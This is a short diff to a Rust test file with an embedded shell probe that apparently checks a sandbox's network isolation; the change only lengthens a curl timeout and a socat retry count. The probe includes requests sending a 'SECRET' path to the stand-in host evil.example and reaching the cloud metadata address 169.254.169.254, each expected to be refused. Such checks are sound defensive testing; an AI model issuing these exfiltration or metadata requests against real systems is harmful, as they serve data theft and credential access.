@@ -16,7 +16,7 @@ use crate::support::processes::{Marked, tool};
 const PROBE: &str = r#"
 try() { what=$1; shift; "$@" >/dev/null 2>&1 && echo "$what" >>findings; }
 knock() { socat -u OPEN:/dev/null "$1,connect-timeout=5"; }
-says() { words=$1; shift; curl -sS -m 20 "$@" 2>&1 | grep -q "$words"; }
+says() { words=$1; shift; curl -sS -m 300 "$@" 2>&1 | grep -q "$words"; }
 try REACHED-THE-HOST knock TCP:127.0.0.1:$OPEN
 try REACHED-THE-HOST-BY-IPV6 knock "TCP6:[::1]:$OPEN"
 try REACHED-THE-HOST-BY-ITS-ADDRESS knock TCP:$ADDRESS:$OPEN
@@ -34,7 +34,7 @@ try refused-a-host says 403 https://evil.example/SECRET-of-the-lane
 try refused-metadata says "relay refuses 169.254.169.254:80" http://169.254.169.254/
 try refused-a-port says 403 -p http://github.com:22/
 socat -u TCP-LISTEN:18099,bind=127.0.0.1 CREATE:got &
-echo hello | socat -u - TCP:127.0.0.1:18099,retry=100,interval=0.05
+echo hello | socat -u - TCP:127.0.0.1:18099,retry=6000,interval=0.05
 wait
 try bound-localhost grep -q hello got
 rm -f got
